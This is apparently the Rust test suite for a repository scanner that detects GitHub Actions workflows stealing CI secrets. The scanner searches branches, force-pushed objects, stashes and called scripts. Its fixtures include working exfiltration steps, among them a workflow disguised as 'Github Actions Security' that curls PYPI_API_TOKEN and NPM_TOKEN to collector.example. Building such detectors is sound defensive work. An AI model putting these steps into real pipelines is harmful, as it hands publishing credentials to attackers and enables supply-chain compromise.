//! Whole scans of real repositories, made with the `git` command as people make them.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    clippy::string_slice,
    clippy::panic,
    reason = "a test fails by panicking"
)]

mod repository;

use portcullis_scan::report::{Basis, Certainty, Finding, Standing, Urgency, Verdict};
use portcullis_scan::{Options, Report, scan};
use repository::Repository;

const PUBLISH: &str = "on:
  release:
    types: [published]
jobs:
  publish:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: pipx run build
      - uses: pypa/gh-action-pypi-publish@release/v1
        with:
          password: ${{ secrets.PYPI_API_TOKEN }}
";

const STEAL: &str = "name: Github Actions Security
on: [push]
jobs:
  send:
    runs-on: ubuntu-latest
    steps:
      - run: |
          curl -s -X POST -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}&NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://collector.example/in
";

const STEAL_PATH: &str = ".github/workflows/security.yml";

fn scanned(repository: &Repository) -> Report {
    scan(&Options { paths: vec![repository.path().to_owned()], ..Options::default() })
}

fn theft(report: &Report) -> &Finding {
    let found: Vec<&Finding> =
        report.document.findings.iter().filter(|finding| finding.verdict == Verdict::Malicious).collect();
    assert_eq!(found.len(), 1, "{:#?}", report.document);
    found[0]
}

fn with_publishing() -> Repository {
    let repository = Repository::new();
    repository.write("pyproject.toml", "[project]\nname = \"widgets\"\n");
    repository.write(".github/workflows/publish.yml", PUBLISH);
    repository.commit("Publish from CI");
    repository
}

#[test]
fn removed_on_one_branch_and_still_standing_on_another() {
    let repository = with_publishing();
    repository.write(STEAL_PATH, STEAL);
    let introduced = repository.commit("Add security workflow");
    repository.git(&["branch", "dev"]);
    repository.remove(STEAL_PATH);
    let removed = repository.commit("Take it out");
    let report = scanned(&repository);
    assert!(report.document.complete, "{:?}", report.document.problems);
    let finding = theft(&report);
    assert_eq!(finding.rule, "secret-to-host");
    assert_eq!(finding.standing, Standing::CouldRun);
    assert_eq!(finding.path.unescaped(), STEAL_PATH);
    assert_eq!(finding.span.start.line, 8);
    let names: Vec<&str> = finding.secrets.iter().map(|secret| secret.name.unescaped()).collect();
    assert_eq!(names, ["NPM_TOKEN", "PYPI_API_TOKEN"]);
    assert!(finding.secrets.iter().all(|secret| secret.certainty == Certainty::Certain));
    let pypi = &finding.secrets[1];
    assert_eq!(pypi.kind, "pypi");
    let used = &pypi.used_for[0];
    assert_eq!((used.registry.as_str(), used.basis), ("pypi", Basis::Claimed));
    assert_eq!(used.package.as_ref().map(|name| name.unescaped()), Some("widgets"));
    assert_eq!((used.path.unescaped(), used.line), (".github/workflows/publish.yml", 12));
    assert_eq!(finding.destinations[0].host.as_ref().map(|host| host.unescaped()), Some("collector.example"));
    assert_eq!(finding.exposures.len(), 2);
    for exposure in &finding.exposures {
        assert!(exposure.reachable);
        assert_eq!(
            exposure.introduced.as_ref().map(|moment| moment.commit.as_str()),
            Some(introduced.as_str())
        );
        let refs: Vec<(&str, Option<&str>)> = exposure
            .refs
            .iter()
            .map(|span| (span.name.unescaped(), span.removed.as_ref().map(|moment| moment.commit.as_str())))
            .collect();
        assert_eq!(refs, [("refs/heads/dev", None), ("refs/heads/main", Some(removed.as_str()))]);
    }
}

#[test]
fn what_a_force_push_left_in_unreachable_objects() {
    let origin = Repository::bare();
    let clone = with_publishing();
    clone.git(&["remote", "add", "origin", &origin.path().display().to_string()]);
    clone.git(&["push", "-q", "origin", "main"]);
    clone.write(STEAL_PATH, STEAL);
    let introduced = clone.commit("Add security workflow");
    clone.git(&["push", "-q", "origin", "main"]);
    clone.git(&["reset", "-q", "--hard", "HEAD~1"]);
    clone.git(&["push", "-q", "--force", "origin", "main"]);
    // Nothing in the repository reaches the commit any more.
    assert!(!origin.git(&["rev-list", "--all", "--reflog"]).contains(&introduced));
    let report = scanned(&origin);
    let finding = theft(&report);
    assert_eq!(finding.standing, Standing::Foreign);
    assert_eq!(finding.secrets.len(), 2);
    assert_eq!(finding.secrets[1].used_for[0].package.as_ref().map(|name| name.unescaped()), Some("widgets"));
    let exposure = &finding.exposures[0];
    assert_eq!(exposure.introduced.as_ref().map(|moment| moment.commit.as_str()), Some(introduced.as_str()));
    assert_eq!(exposure.introduced.as_ref().map(|moment| moment.basis), Some(Basis::Claimed));
    assert!(exposure.refs.is_empty());
    // The forge says that it was pushed: then it is the repository's own.
    let options = Options {
        paths: vec![origin.path().to_owned()],
        pushed_heads: vec![introduced],
        ..Options::default()
    };
    let report = scan(&options);
    let finding = theft(&report);
    assert_eq!(finding.standing, Standing::CouldRun);
    // When, the push doesn't say: the commit's own time stays a claim.
    assert_eq!(finding.exposures[0].introduced.as_ref().map(|moment| moment.basis), Some(Basis::Claimed));
    assert!(finding.exposures[0].reachable);
}

/// What the forge saw bounds a span; a commit's own time may only make it wider. More than a day apart is a signal.
#[test]
fn a_claimed_time_widens_a_span_and_never_narrows_it() {
    const TIME: i64 = 1_756_900_000;
    let repository = with_publishing();
    repository.set_clock(TIME);
    repository.write(STEAL_PATH, STEAL);
    let introduced = repository.commit("Add security workflow");
    let own = repository.git(&["log", "-1", "--format=%ct"]).trim().parse::<i64>().unwrap();
    for (pushed, time, basis, conflict) in [
        (own - 60, own - 60, Basis::Observed, false),
        (own + 60, own, Basis::Claimed, false),
        (own + DAY, own, Basis::Claimed, false),
        (own + DAY + 1, own, Basis::Claimed, true),
        (own - DAY - 1, own - DAY - 1, Basis::Observed, true),
    ] {
        let report = scan(&Options {
            paths: vec![repository.path().to_owned()],
            push_times: [(introduced.clone(), pushed)].into(),
            ..Options::default()
        });
        let finding = theft(&report);
        let moment = finding.exposures[0].introduced.as_ref().unwrap();
        let shown: jiff::Timestamp = moment.time.parse().unwrap();
        assert_eq!((shown.as_second(), moment.basis), (time, basis));
        assert_eq!(finding.signals.iter().any(|signal| signal == "date-conflict"), conflict, "{pushed}");
    }
}

/// Without the forge's word: who claims to be older than what he builds on has set his clock.
#[test]
fn a_commit_that_claims_to_be_older_than_its_parent_conflicts() {
    const TIME: i64 = 1_756_900_000;
    for (claimed, conflict) in [(TIME - DAY - 3_600, true), (TIME - DAY, false), (TIME, false)] {
        let repository = with_publishing();
        repository.set_clock(TIME - 3_600);
        repository.write("a", "x");
        repository.commit("Work");
        repository.set_clock(claimed - 3_600);
        repository.write(STEAL_PATH, STEAL);
        repository.commit("Work");
        let report = scanned(&repository);
        assert_eq!(
            theft(&report).signals.iter().any(|signal| signal == "date-conflict"),
            conflict,
            "{claimed}"
        );
    }
}

/// A job with an `environment` gets that environment's secrets; another one gets the repository's alone, and whether a name that is
/// known from there is one of these is open.
#[test]
fn a_secret_of_an_environment_is_possible_elsewhere() {
    let with_environment = PUBLISH.replace("    steps:", "    environment: pypi\n    steps:");
    let certainties = |workflows: &[(&str, &str)]| -> Vec<(String, Certainty)> {
        let repository = Repository::new();
        for (path, text) in workflows {
            repository.write(path, text);
        }
        repository.write(STEAL_PATH, STEAL);
        repository.commit("x");
        let report = scanned(&repository);
        theft(&report).secrets.iter().map(|s| (s.name.unescaped().to_owned(), s.certainty)).collect()
    };
    let expected =
        |pypi| vec![("NPM_TOKEN".to_owned(), Certainty::Certain), ("PYPI_API_TOKEN".to_owned(), pypi)];
    let inside = (".github/workflows/publish.yml", with_environment.as_str());
    let outside = (".github/workflows/test.yml", PUBLISH);
    assert_eq!(certainties(&[inside]), expected(Certainty::Possible));
    assert_eq!(certainties(&[outside]), expected(Certainty::Certain));
    assert_eq!(certainties(&[inside, outside]), expected(Certainty::Certain));
    assert_eq!(certainties(&[]), expected(Certainty::Certain));
}

/// What it opens is told by what is done with it: a login, an action that takes one kind of credential, a publishing step above all.
#[test]
fn what_a_secret_opens_is_read_out_of_its_uses() {
    let uses = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: aws-actions/configure-aws-credentials@v4\n        with: {aws-access-key-id: '${{ secrets.ONE }}', aws-secret-access-key: '${{ secrets.TWO }}', aws-region: x}\n      - run: |\n          curl -H \"Authorization: Bearer ${{ secrets.THREE }}\" https://api.netlify.com/api/v1/sites\n      - uses: pypa/gh-action-pypi-publish@release/v1\n        with: {password: '${{ secrets.PAT }}'}\n";
    let steal = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d '${{ secrets.ONE }} ${{ secrets.TWO }} ${{ secrets.THREE }} ${{ secrets.PAT }} ${{ secrets.FOUR }}' https://collector.example/\n";
    let repository = Repository::new();
    repository.write("setup.py", "from setuptools import setup\nsetup(name='widgets')\n");
    repository.write(".github/workflows/use.yml", uses);
    repository.commit("Use");
    repository.remove(".github/workflows/use.yml");
    repository.write(STEAL_PATH, steal);
    repository.commit("Steal");
    let report = scanned(&repository);
    let kinds: Vec<(String, String, Option<String>, Urgency)> = theft(&report)
        .secrets
        .iter()
        .map(|secret| {
            let package = secret.used_for.first().and_then(|used| used.package.as_ref());
            let package = package.map(|package| package.unescaped().to_owned());
            (secret.name.unescaped().to_owned(), secret.kind.clone(), package, secret.urgency)
        })
        .collect();
    let is = |name: &str, kind: &str, package: Option<&str>, urgency| {
        (name.to_owned(), kind.to_owned(), package.map(str::to_owned), urgency)
    };
    assert_eq!(
        kinds,
        [
            is("FOUR", "unknown", None, Urgency::Opens),
            is("ONE", "aws", None, Urgency::Opens),
            is("PAT", "pypi", Some("widgets"), Urgency::Publishes),
            is("THREE", "netlify", None, Urgency::Opens),
            is("TWO", "aws", None, Urgency::Opens),
        ]
    );
    let pat = theft(&report).secrets.iter().find(|secret| secret.name.unescaped() == "PAT").unwrap();
    assert!(pat.replacement.as_deref().is_some_and(|text| text.contains("trusted-publishers")));
    assert!(pat.rotate.starts_with("https://pypi.org/"));
}

/// Since 2025-12-08 the default branch's version of `pull_request_target` runs; before, that of the branch a pull request went to.
#[test]
fn what_runs_for_a_pull_request_to_a_branch_changed() {
    const CHANGE: i64 = 1_765_152_000;
    for (time, reachable) in [(CHANGE - 1, true), (CHANGE, false)] {
        let repository = with_publishing();
        repository.git(&["checkout", "-q", "-b", "side"]);
        repository.set_clock(time - 3_600);
        repository.write(STEAL_PATH, &STEAL.replace("[push]", "pull_request_target"));
        repository.commit("x");
        repository.git(&["checkout", "-q", "main"]);
        let report = scanned(&repository);
        let finding = theft(&report);
        assert_eq!(finding.exposures[0].reachable, reachable);
        assert_eq!(finding.standing == Standing::CouldRun, reachable);
    }
}

/// An owner whom another workflow of the repository trusts is none that nobody knows.
#[test]
fn an_owner_of_another_workflow_may_get_a_secret() {
    let lint = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: someone/markdown-lint@v1\n        env: {T: '${{ secrets.PYPI_API_TOKEN }}'}\n";
    let other =
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: Someone/spelling@v1\n";
    for (with, verdict) in [(false, Verdict::Suspicious), (true, Verdict::Exposed)] {
        let repository = with_publishing();
        repository.write(".github/workflows/lint.yml", lint);
        if with {
            repository.write(".github/workflows/words.yml", other);
        }
        repository.commit("x");
        let report = scanned(&repository);
        let found: Vec<Verdict> = report
            .document
            .findings
            .iter()
            .filter(|finding| finding.rule == "secret-to-action")
            .map(|finding| finding.verdict)
            .collect();
        assert_eq!(found, [verdict]);
    }
}

#[test]
fn a_pull_request_is_foreign() {
    let repository = with_publishing();
    repository.git(&["checkout", "-q", "--detach"]);
    repository.write(STEAL_PATH, STEAL);
    let head = repository.commit("Add security workflow");
    repository.git(&["update-ref", "refs/pull/7/head", &head]);
    repository.git(&["checkout", "-q", "main"]);
    let report = scanned(&repository);
    let finding = theft(&report);
    assert_eq!(finding.standing, Standing::Foreign);
    assert!(!finding.exposures[0].reachable);
    assert_eq!(finding.exposures[0].refs[0].name.unescaped(), "refs/pull/7/head");
}

#[test]
fn versions_are_analysed_once_and_ids_are_stable() {
    let repository = with_publishing();
    repository.write(STEAL_PATH, STEAL);
    repository.commit("one");
    for at in 0..5 {
        repository.write("file", &at.to_string());
        repository.commit("work");
    }
    let first = scanned(&repository);
    let second = scanned(&repository);
    assert_eq!(first.document.stats.workflow_versions, 2);
    assert_eq!(first.document.stats.commits, 7);
    assert_eq!(theft(&first).id, theft(&second).id);
    assert_eq!(theft(&first).id.len(), 16);
}

#[test]
fn a_stash_and_packed_objects_are_searched() {
    let repository = with_publishing();
    repository.write(STEAL_PATH, STEAL);
    repository.git(&["add", "-A"]);
    repository.git(&["stash", "-q"]);
    repository.git(&["gc", "-q"]);
    let report = scanned(&repository);
    assert_eq!(theft(&report).standing, Standing::Foreign);
}

#[test]
fn an_uncommitted_file_is_looked_at() {
    let repository = with_publishing();
    repository.write(STEAL_PATH, STEAL);
    let report = scanned(&repository);
    let finding = theft(&report);
    assert_eq!(finding.standing, Standing::CouldRun);
    assert!(finding.exposures[0].introduced.is_none());
}

#[test]
fn a_folder_of_repositories_and_loose_files() {
    let folder = tempfile::tempdir().unwrap();
    let inner = Repository::at(&folder.path().join("a/b"));
    inner.write(STEAL_PATH, STEAL);
    inner.commit("x");
    let loose = folder.path().join("c/.github/workflows");
    std::fs::create_dir_all(&loose).unwrap();
    std::fs::write(loose.join("s.yml"), STEAL).unwrap();
    let report = scan(&Options { paths: vec![folder.path().to_owned()], ..Options::default() });
    assert_eq!(report.document.stats.repositories, 2);
    let paths: Vec<&str> = report
        .document
        .findings
        .iter()
        .filter(|finding| finding.verdict == Verdict::Malicious)
        .map(|finding| finding.path.unescaped())
        .collect();
    assert_eq!(paths, ["c/.github/workflows/s.yml", STEAL_PATH]);
}

#[test]
fn called_scripts_are_read_at_the_same_commit() {
    let repository = with_publishing();
    repository.write("scripts/ci.sh", "#!/bin/bash\ncurl -d \"$A=$B\" https://collector.example/\n");
    repository.write(
        ".github/workflows/ci.yml",
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {A: '${{ secrets.PYPI_API_TOKEN }}', B: '${{ secrets.NPM_TOKEN }}'}\n    steps:\n      - run: bash scripts/ci.sh\n",
    );
    repository.commit("CI");
    repository.write("scripts/ci.sh", "#!/bin/bash\necho done\n");
    repository.commit("Clean up");
    let report = scanned(&repository);
    let finding = theft(&report);
    assert!(finding.flow.iter().any(|hop| hop.path.unescaped() == "scripts/ci.sh"), "{:#?}", finding.flow);
}

const CALLS_SCRIPT: &str = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {A: '${{ secrets.PYPI_API_TOKEN }}', B: '${{ secrets.NPM_TOKEN }}'}\n    steps:\n      - run: ./x.sh\n";
const STEALING_SCRIPT: &str = "#!/bin/bash\ncurl -d \"$A=$B\" https://collector.example/\n";

fn with_script() -> Repository {
    let repository = Repository::new();
    repository.write(".github/workflows/ci.yml", CALLS_SCRIPT);
    repository.write("x.sh", STEALING_SCRIPT);
    repository.commit("CI");
    repository
}

fn harmless(count: usize) -> impl Iterator<Item = String> {
    (0..count).map(|at| format!("#!/bin/bash\necho {at}\n"))
}

/// Harmless versions of a called script, however many, do not bury the one that stole.
#[test]
fn every_version_of_a_called_script_is_analysed() {
    let repository = with_script();
    repository.commit_versions("x.sh", harmless(1_999));
    let report = scanned(&repository);
    assert_eq!(theft(&report).secrets.len(), 2);
    assert!(report.document.complete, "{:?}", report.document.problems);
}

/// Past the bound nothing is called clean: what is left over is searched coarsely, and the scan is incomplete.
#[test]
fn too_many_versions_of_a_called_script_are_a_problem() {
    let repository = with_script();
    repository.commit_versions("x.sh", harmless(2_000));
    let report = scanned(&repository);
    assert!(!report.document.complete);
    assert_eq!(report.document.problems.len(), 1);
    assert_eq!(report.document.problems[0].kind, "over-limit");
    let finding = &report.document.findings[0];
    assert_eq!((finding.rule.as_str(), finding.verdict), ("unanalysed-workflow", Verdict::Suspicious));
    assert_eq!(finding.standing, Standing::CouldRun);
}

/// What an old version of a script called is looked at, though its newest version calls nothing any more.
#[test]
fn what_an_older_script_called_is_analysed_in_every_version() {
    let repository = with_script();
    repository.write("x.sh", "#!/bin/bash\n. ./y.sh\n");
    repository.write("y.sh", STEALING_SCRIPT);
    repository.commit("Move it");
    repository.write("y.sh", "#!/bin/bash\necho done\n");
    repository.commit("Clean up");
    repository.write("x.sh", "#!/bin/bash\necho done\n");
    repository.commit("Clean up");
    let report = scanned(&repository);
    assert!(theft(&report).flow.iter().any(|hop| ["x.sh", "y.sh"].contains(&hop.path.unescaped())));
    let holders: Vec<_> = theft(&report).exposures[0].refs.iter().map(|span| span.removed.clone()).collect();
    assert_eq!(holders.len(), 1);
    let moved = repository.git(&["rev-parse", "HEAD~1"]);
    assert_eq!(holders[0].as_ref().map(|moment| moment.commit.as_str()), Some(moved.trim()));
}

const DAY: i64 = 24 * 3_600;

fn login(host: &str) -> String {
    format!(
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker login -u x -p \"${{{{ secrets.PYPI_API_TOKEN }}}}\" {host}\n"
    )
}

const SEND_ONE: &str = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d \"${{ secrets.PYPI_API_TOKEN }}\" https://collect.example/\n";

fn verdict_of(report: &Report, path: &str) -> Option<Verdict> {
    let mine = report.document.findings.iter().filter(|finding| finding.path.unescaped() == path);
    mine.map(|finding| finding.verdict).max()
}

/// Two commits dated long ago are a claim; the theft is judged as if they were not there.
#[test]
fn claimed_times_excuse_nothing() {
    let repository = Repository::new();
    repository.set_clock(1_704_067_200);
    repository.write(".github/workflows/b.yml", &login("collect.example"));
    repository.commit("Old");
    repository.set_clock(1_704_067_200 + 500 * DAY);
    repository.write(".github/workflows/c.yml", &login("collect.example"));
    repository.write(".github/workflows/a.yml", SEND_ONE);
    let head = repository.commit("New");
    assert_eq!(verdict_of(&scanned(&repository), ".github/workflows/a.yml"), Some(Verdict::Malicious));
    // Brought by one push, whatever the commits say.
    let with_times = |times: Vec<(String, i64)>| {
        scan(&Options {
            paths: vec![repository.path().to_owned()],
            push_times: times.into_iter().collect(),
            ..Options::default()
        })
    };
    let report = with_times(vec![(head.clone(), 1_760_000_000)]);
    assert_eq!(verdict_of(&report, ".github/workflows/a.yml"), Some(Verdict::Malicious));
    // Seen by the forge, 30 days apart: an excuse; a second less: none.
    let old = repository.git(&["rev-parse", "HEAD~1"]).trim().to_owned();
    for (apart, verdict) in [(30 * DAY, Verdict::Suspicious), (30 * DAY - 1, Verdict::Malicious)] {
        let report = with_times(vec![(old.clone(), 1_760_000_000), (head.clone(), 1_760_000_000 + apart)]);
        assert_eq!(verdict_of(&report, ".github/workflows/a.yml"), Some(verdict), "{apart}");
    }
}

/// What stood at a time or later, whatever its commit claims; what was taken out before is left out.
#[test]
fn since_a_time() {
    const SINCE: i64 = 1_770_000_000;
    let thefts = |repository: &Repository| {
        let options =
            Options { paths: vec![repository.path().to_owned()], since: Some(SINCE), ..Options::default() };
        scan(&options)
            .document
            .findings
            .iter()
            .filter(|finding| finding.verdict == Verdict::Malicious)
            .count()
    };
    let repository = with_publishing();
    repository.write(STEAL_PATH, STEAL);
    repository.commit("Add security workflow");
    assert_eq!(thefts(&repository), 1, "it still stands");
    repository.remove(STEAL_PATH);
    repository.commit("Take it out");
    assert_eq!(thefts(&repository), 0, "it was taken out before");
    repository.set_clock(SINCE);
    repository.write("file", "x");
    repository.commit("Work");
    repository.set_clock(1_600_000_000);
    repository.write(STEAL_PATH, STEAL);
    repository.commit("It claims to be old");
    repository.remove(STEAL_PATH);
    repository.commit("And so does this");
    assert_eq!(thefts(&repository), 1, "it builds on what is newer");
}
